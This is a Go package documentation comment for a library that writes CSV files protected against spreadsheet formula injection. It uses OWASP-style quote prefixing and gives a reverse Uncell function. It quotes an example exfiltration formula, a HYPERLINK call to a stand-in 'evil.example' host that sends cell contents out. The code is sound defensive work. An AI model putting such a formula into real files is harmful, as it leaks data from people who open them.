// Package csvsafe writes CSV files that are safe to open in a spreadsheet.
//
// A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell that starts with '=',
// '+', '-' or '@' as a formula, and some also after a leading tab or carriage return: a user
// id or a role name such as =HYPERLINK("http://evil.example/?x="&A1,"click") would then run
// when someone opens the file (CSV or formula injection). Following OWASP's rule, Cell
// prefixes such a cell with a single quote, which spreadsheets show as text and do not
// evaluate. A plain decimal number ("-3", "+0.5", "-1.2e-3") is left as it is: it is not a
// formula, and numeric columns stay numeric.
//
// Every CSV the project writes goes through Writer (or Cell, for code that formats lines
// itself), after any trimming of the values, so that a trimmed "\t=cmd" is caught as "=cmd".
// A program that reads such a file back as data passes each field through Uncell, which
// gives the text exactly as it was (Cell also quotes a text that already starts with quotes
// before a risky character, so the two never mix up).
package csvsafe
